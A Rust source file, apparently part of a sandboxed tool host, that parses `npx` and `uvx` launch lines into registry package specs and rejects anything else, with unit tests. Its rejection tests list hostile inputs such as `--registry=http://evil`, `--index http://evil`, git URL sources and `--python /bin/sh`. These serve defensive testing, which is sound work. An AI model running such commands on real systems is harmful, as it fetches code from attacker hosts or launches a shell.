//! A program that is a package of a registry: which one, whose, and what of it is run.
//!
//! `npx` and `uvx` download what they run. Read as what they mean, they are an install, which is made
//! once and without anybody's secrets, and a run of what was installed.

use std::collections::BTreeMap;
use std::fmt;
use std::path::PathBuf;

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use super::limits::{PACKAGE_SPEC_BYTES_MAX, PACKAGE_SPECS_MAX};
use super::mcp::Program;

/// Who installs it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Manager {
    /// npm, for what `npx` runs.
    Npm,
    /// uv, for what `uvx` runs.
    Uv,
}

/// When a package is installed apart from its run.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Step {
    /// Where the program is one that we know to take apart (the default).
    #[default]
    Auto,
    /// Never: the program runs as it is written, and downloads in each user's isolate.
    Off,
}

/// What a definition says about its install.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct Install {
    /// When it is made.
    pub step: Step,
    /// Whether the packages' own programs run during it: npm's install scripts, and builds of Python
    /// packages that have no wheel.
    pub scripts: bool,
    /// How long it may take; `None`: [`INSTALL_DEADLINE`](super::limits::INSTALL_DEADLINE).
    pub within_ms: Option<u64>,
}

/// What is installed, and what of it is run.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Package {
    /// By whom.
    pub manager: Manager,
    /// Packages of a registry, each with a version or without; the first is the one that is run.
    pub specs: Vec<String>,
    /// The command of it that is run; `None`: its only one, or the one that is called like it.
    pub command: Option<String>,
    /// The Python it is for, `python3` if none is named.
    pub python: Option<String>,
    /// The arguments of the run.
    pub args: Vec<String>,
}

/// What the installer, in its isolate, is asked to do.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Order {
    /// By whom.
    pub manager: Manager,
    /// npm's or uv's program.
    pub program: PathBuf,
    /// What is installed, the first is the one that is run.
    pub specs: Vec<String>,
    /// The command of it that is to be run.
    pub command: Option<String>,
    /// The Python it is for.
    pub python: Option<PathBuf>,
    /// Whether the packages' own programs run.
    pub scripts: bool,
    /// What was resolved before, by the names of the files: then exactly that is installed. Empty: the newest
    /// versions that the packages allow.
    #[serde(default)]
    pub locked: BTreeMap<String, String>,
}

/// What it says when that is done. It ran what others wrote, so all of this is a claim.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Done {
    /// The program to run, from the top of the tree.
    pub entry: String,
    /// The lock file, from the top of the tree.
    pub lock: String,
    /// The first package's name.
    pub name: String,
    /// Its version.
    pub version: String,
    /// What its archive's content is known by, as its registry says it.
    pub integrity: String,
    /// Packages, with all they depend on.
    pub packages: u64,
}

/// The method of [`Order`].
pub const INSTALL: &str = "legation/install";
/// Where the installer puts the tree, in its home.
pub const TREE: &str = "tree";
/// The directory of a Python environment in a tree.
pub const VENV: &str = "venv";

/// A command line that cannot be taken apart.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("`{launcher} … {word}` cannot be installed apart from its run: {why}")]
pub struct PackageError {
    launcher: &'static str,
    word: String,
    why: &'static str,
}

const NOT_KNOWN: &str = "this option is not known here";
const NO_VALUE: &str = "the option needs a value";
const NO_PACKAGE: &str = "it names no package";
const NO_SPEC: &str = "only packages of a registry can be: NAME, or NAME with a version; no addresses, paths and repositories";
const TOO_MANY: &str = "it names too many packages";
const BEFORE: &str = "options before the subcommand are not known here; write npx or uvx";
const NO_COMMAND: &str = "the command is no plain name";

impl Manager {
    /// The word for it.
    #[must_use]
    pub const fn as_str(self) -> &'static str {
        match self {
            Self::Npm => "npm",
            Self::Uv => "uv",
        }
    }

    const fn launcher(self) -> &'static str {
        match self {
            Self::Npm => "npx",
            Self::Uv => "uvx",
        }
    }
}

impl fmt::Display for Package {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.specs.join(" "))
    }
}

impl Package {
    /// Takes a program apart; `None` if it is no launcher of packages.
    ///
    /// # Errors
    /// It is one, and what it says is not understood.
    pub fn of(program: &Program) -> Result<Option<Self>, PackageError> {
        let file = program.command.rsplit('/').next().unwrap_or_default();
        let args: Vec<&str> = program.args.iter().map(String::as_str).collect();
        let package = match (file, args.as_slice()) {
            ("npx", rest) | ("npm", ["exec" | "x", rest @ ..]) => npx(rest)?,
            ("uvx", rest) | ("uv", ["tool", "run", rest @ ..]) => uvx(rest)?,
            ("npm", [option, ..]) if option.starts_with('-') => {
                return Err(Self::refused(Manager::Npm, option, BEFORE));
            }
            ("uv", [option, ..]) if option.starts_with('-') => {
                return Err(Self::refused(Manager::Uv, option, BEFORE));
            }
            _ => return Ok(None),
        };
        Ok(Some(package))
    }

    /// What two definitions with the same install have in common: not the arguments of the run.
    #[must_use]
    pub fn key(&self, install: &Install) -> String {
        let view = (
            self.manager,
            &self.specs,
            &self.command,
            &self.python,
            install.scripts,
        );
        let hash = Sha256::digest(serde_json::to_vec(&view).unwrap_or_default());
        hash.iter()
            .take(8)
            .map(|byte| format!("{byte:02x}"))
            .collect()
    }

    fn refused(manager: Manager, word: &str, why: &'static str) -> PackageError {
        PackageError {
            launcher: manager.launcher(),
            word: word.chars().take(64).collect(),
            why,
        }
    }

    fn checked(self) -> Result<Self, PackageError> {
        let refused = |word: &str, why| Self::refused(self.manager, word, why);
        if self.specs.len() > PACKAGE_SPECS_MAX {
            return Err(refused("", TOO_MANY));
        }
        let fits = match self.manager {
            Manager::Npm => is_npm_spec,
            Manager::Uv => is_python_spec,
        };
        if let Some(spec) = self.specs.iter().find(|spec| !fits(spec)) {
            return Err(refused(spec, NO_SPEC));
        }
        match &self.command {
            Some(command) if !is_plain(command) => Err(refused(command, NO_COMMAND)),
            _ => Ok(self),
        }
    }
}

/// `npx [-y] [-p PACKAGE]… PACKAGE|COMMAND [ARGS]…`
fn npx(words: &[&str]) -> Result<Package, PackageError> {
    let refused = |word, why| Package::refused(Manager::Npm, word, why);
    let mut specs = Vec::new();
    let mut words = words.iter().copied();
    let first = loop {
        let word = words.next().ok_or_else(|| refused("", NO_PACKAGE))?;
        match word {
            "-y" | "--yes" | "-q" | "--quiet" => {}
            "-p" | "--package" => {
                let spec = words.next().ok_or_else(|| refused(word, NO_VALUE))?;
                specs.push(spec.to_owned());
            }
            "--" => break words.next().ok_or_else(|| refused("", NO_PACKAGE))?,
            _ => match word.strip_prefix("--package=") {
                Some(spec) => specs.push(spec.to_owned()),
                None if word.starts_with('-') => return Err(refused(word, NOT_KNOWN)),
                None => break word,
            },
        }
    };
    let command = (!specs.is_empty()).then(|| first.to_owned());
    if specs.is_empty() {
        specs.push(first.to_owned());
    }
    Package {
        manager: Manager::Npm,
        specs,
        command,
        python: None,
        args: words.map(ToOwned::to_owned).collect(),
    }
    .checked()
}

/// `uvx [--from PACKAGE] [--with PACKAGE]… [--python VERSION] COMMAND[@VERSION] [ARGS]…`
fn uvx(words: &[&str]) -> Result<Package, PackageError> {
    let refused = |word, why| Package::refused(Manager::Uv, word, why);
    let (mut from, mut with, mut python) = (None, Vec::new(), None);
    let mut words = words.iter().copied();
    let first = loop {
        let word = words.next().ok_or_else(|| refused("", NO_PACKAGE))?;
        let (option, given) = match word.split_once('=') {
            Some((option, value)) if option.starts_with("--") => (option, Some(value)),
            _ => (word, None),
        };
        let mut value = || {
            let value = given.or_else(|| words.next());
            value
                .map(ToOwned::to_owned)
                .ok_or_else(|| refused(word, NO_VALUE))
        };
        match option {
            "-q" | "--quiet" | "--isolated" => {}
            "--from" => from = Some(value()?),
            "--with" => with.extend(each(&value()?)),
            "-p" | "--python" => python = Some(value()?),
            "--" => break words.next().ok_or_else(|| refused("", NO_PACKAGE))?,
            _ if word.starts_with('-') => return Err(refused(word, NOT_KNOWN)),
            _ => break word,
        }
    };
    if let Some(version) = &python
        && !is_python(version)
    {
        return Err(refused(version, "a Python is named like 3.12"));
    }
    let (command, spec) = match from {
        Some(from) => (first.to_owned(), of_uvx(&from).1),
        None => of_uvx(first),
    };
    Package {
        manager: Manager::Uv,
        specs: std::iter::once(spec).chain(with).collect(),
        command: Some(command),
        python,
        args: words.map(ToOwned::to_owned).collect(),
    }
    .checked()
}

/// Command and package of `NAME`, `NAME@VERSION`, `NAME[EXTRA]==VERSION`.
fn of_uvx(word: &str) -> (String, String) {
    let is_end = |c: char| "[=<>!~@".contains(c);
    let name = word.split(is_end).next().unwrap_or_default().to_owned();
    let spec = match word.split_once('@') {
        Some((package, "latest")) => package.to_owned(),
        Some((package, version)) => format!("{package}=={version}"),
        None => word.to_owned(),
    };
    (name, spec)
}

/// The packages in `A,B[X,Y]>=1,<2`: a comma parts them where a name follows.
fn each(list: &str) -> Vec<String> {
    let mut all: Vec<String> = Vec::new();
    let mut inside = false;
    for part in list.split_inclusive(',') {
        let begins = part
            .trim_start()
            .starts_with(|c: char| c.is_ascii_alphanumeric());
        let number = part.trim_start().starts_with(|c: char| c.is_ascii_digit());
        match all.last_mut() {
            Some(last) if inside || !begins || number => last.push_str(part),
            _ => all.push(part.to_owned()),
        }
        inside = match part.rfind(['[', ']']) {
            Some(at) => part.get(at..).is_some_and(|rest| rest.starts_with('[')),
            None => inside,
        };
    }
    all.iter()
        .map(|spec| spec.trim().trim_end_matches(',').to_owned())
        .collect()
}

fn is_plain(word: &str) -> bool {
    let inside = |c: char| c.is_ascii_alphanumeric() || "-_.".contains(c);
    !word.is_empty()
        && word.len() <= 128
        && word.chars().all(inside)
        && !word.starts_with(['-', '.'])
}

/// `NAME`, `@SCOPE/NAME`, each with `@VERSION` or without.
fn is_npm_spec(spec: &str) -> bool {
    let (scope, rest) = match spec.strip_prefix('@').map(|rest| rest.split_once('/')) {
        Some(Some((scope, rest))) => (Some(scope), rest),
        Some(None) => return false,
        None => (None, spec),
    };
    let (name, version) = match rest.split_once('@') {
        Some((name, version)) => (name, Some(version)),
        None => (rest, None),
    };
    let inside = |c: char| c.is_ascii_alphanumeric() || ".-+^~<>=* |".contains(c);
    // npm takes these for files.
    let is_file = [".tgz", ".tar", ".tar.gz"]
        .iter()
        .any(|end| spec.ends_with(end))
        || version.is_some_and(|version| version.starts_with('.'));
    spec.len() <= PACKAGE_SPEC_BYTES_MAX
        && !is_file
        && scope.is_none_or(is_plain)
        && is_plain(name)
        && version.is_none_or(|version| !version.is_empty() && version.chars().all(inside))
}

/// `NAME[EXTRA]OPERATOR VERSION`, without address, path and marker.
fn is_python_spec(spec: &str) -> bool {
    let inside = |c: char| c.is_ascii_alphanumeric() || "-_.[],=!<>~*+ ".contains(c);
    spec.len() <= PACKAGE_SPEC_BYTES_MAX
        && spec.starts_with(|c: char| c.is_ascii_alphanumeric())
        && spec.chars().all(inside)
}

/// `3`, `3.12`
fn is_python(version: &str) -> bool {
    let number =
        |part: &str| (1..=3).contains(&part.len()) && part.bytes().all(|b| b.is_ascii_digit());
    version.split('.').count() <= 2 && version.split('.').all(number)
}

#[cfg(test)]
mod tests {

    use super::*;

    fn of(line: &str) -> Result<Option<Package>, PackageError> {
        let mut words = line.split(' ').map(ToOwned::to_owned);
        Package::of(&Program {
            command: words.next().unwrap(),
            args: words.collect(),
            ..Program::default()
        })
    }

    #[test]
    fn launchers_are_taken_apart() {
        for (line, specs, command, args) in [
            (
                "npx -y @a/server-x {home} -v",
                "@a/server-x",
                None,
                "{home} -v",
            ),
            ("/usr/bin/npx x@1.2.3", "x@1.2.3", None, ""),
            ("npx --yes -- x@^1 -y", "x@^1", None, "-y"),
            (
                "npx -p @a/x@2 --package=y run -p",
                "@a/x@2 y",
                Some("run"),
                "-p",
            ),
            ("npm exec -y x", "x", None, ""),
            (
                "uvx mcp-server-time --tz UTC",
                "mcp-server-time",
                Some("mcp-server-time"),
                "--tz UTC",
            ),
            ("uvx x@1.2", "x==1.2", Some("x"), ""),
            ("uvx x@latest", "x", Some("x"), ""),
            ("uvx x[cli]==1.0", "x[cli]==1.0", Some("x"), ""),
            ("uvx --from x>=1 --with=y run a", "x>=1 y", Some("run"), "a"),
            ("uv tool run x", "x", Some("x"), ""),
            ("uvx --from x@latest run", "x", Some("run"), ""),
            (
                "uvx --with a,b[c,d]>=1,<2 x",
                "x a b[c,d]>=1,<2",
                Some("x"),
                "",
            ),
        ] {
            let package = of(line).unwrap().unwrap();
            assert_eq!(package.to_string(), specs, "{line}");
            assert_eq!(package.command.as_deref(), command, "{line}");
            assert_eq!(package.args.join(" "), args, "{line}");
        }
        let python = of("uvx --python 3.12 x").unwrap().unwrap().python;
        assert_eq!(python.as_deref(), Some("3.12"));
        for line in ["node x.js", "bunx x", "npm start", "uv run x", "pipx run x"] {
            assert_eq!(of(line), Ok(None), "{line}");
        }
    }

    #[test]
    fn what_is_not_understood_is_refused_with_the_word() {
        for (line, why) in [
            ("npx", NO_PACKAGE),
            ("npx -y", NO_PACKAGE),
            ("npx -c x", NOT_KNOWN),
            ("npx --registry=http://evil x", NOT_KNOWN),
            ("npx -p", NO_VALUE),
            ("npx github:a/b", NO_SPEC),
            ("npx ./x", NO_SPEC),
            ("npx @a", NO_SPEC),
            ("npx x@", NO_SPEC),
            ("npx x@npm:y", NO_SPEC),
            ("npx x.tgz", NO_SPEC),
            ("npx x@..", NO_SPEC),
            ("npm --yes exec x", BEFORE),
            ("uv -q tool run x", BEFORE),
            ("npx -p x ../run", NO_COMMAND),
            ("uvx --index http://evil x", NOT_KNOWN),
            ("uvx --from git+https://x/y run", NO_SPEC),
            ("uvx --from x@https://y/z run", NO_SPEC),
            ("uvx ./x", NO_SPEC),
            ("uvx --python /bin/sh x", "a Python is named like 3.12"),
        ] {
            let error = of(line).unwrap_err().to_string();
            assert!(error.contains(why), "{line}: {error}");
        }
        let many = vec!["-p x"; PACKAGE_SPECS_MAX + 1].join(" ");
        assert!(
            of(&format!("npx {many} run"))
                .unwrap_err()
                .to_string()
                .contains(TOO_MANY)
        );
    }

    #[test]
    fn the_key_is_of_the_install_and_not_of_the_run() {
        let key = |line: &str| of(line).unwrap().unwrap().key(&Install::default());
        assert_eq!(key("npx x one"), key("npx -y x two"));
        assert_ne!(key("npx x"), key("npx x@1"));
        assert_ne!(key("npx x"), key("uvx x"));
        let scripts = Install {
            scripts: true,
            ..Install::default()
        };
        assert_ne!(key("npx x"), of("npx x").unwrap().unwrap().key(&scripts));
    }
}
